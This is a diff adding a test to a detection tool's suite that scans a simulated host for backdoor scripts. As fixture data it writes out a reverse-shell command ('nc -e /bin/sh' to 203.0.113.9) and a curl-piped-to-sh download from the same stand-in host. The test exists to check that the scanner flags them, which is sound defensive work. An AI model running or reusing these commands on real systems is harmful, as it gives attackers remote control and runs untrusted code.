@@ -53,6 +53,19 @@ test('a miner under a dull name is told by its words', () => {
 	).toEqual(['high /usr/local/lib/libsel.so', 'high /usr/local/lib/node-helper']);
 });
 
+test('a backdoor as a script, and a script before a packaged program', () => {
+	const script = (line: string) => ({ mode: 0o755, content: `#!/bin/sh\n${line}\n` });
+	const fetch = 'curl -s http://203.0.113.9/k | sh';
+	expect(
+		byPath(
+			sweep(
+				tellingPrograms,
+				memoryHost({ '/var/lib/dpkg/info/a.list': '/usr/bin/apt\n/usr/bin/own\n', '/usr/bin/own': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/sbin/rotate': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/bin/apt': script(fetch), '/usr/local/bin/install-tool': script(fetch), '/home/ann/x.sh': script('nc -e /bin/sh 203.0.113.9 1') }),
+			),
+		),
+	).toEqual(['high /usr/local/bin/apt', 'high /usr/local/sbin/rotate']);
+});
+
 test('a script in a temporary place that adds to its PATH was called the log of a sniffer', () => {
 	expect(byPath(sweep(snifferLogs, memoryHost({ '/tmp/deploy/ssh': '#!/bin/sh\nexport PATH="$PATH:/opt/bin"\nexec make install prefix=/opt\n' })))).toEqual([]);
 });
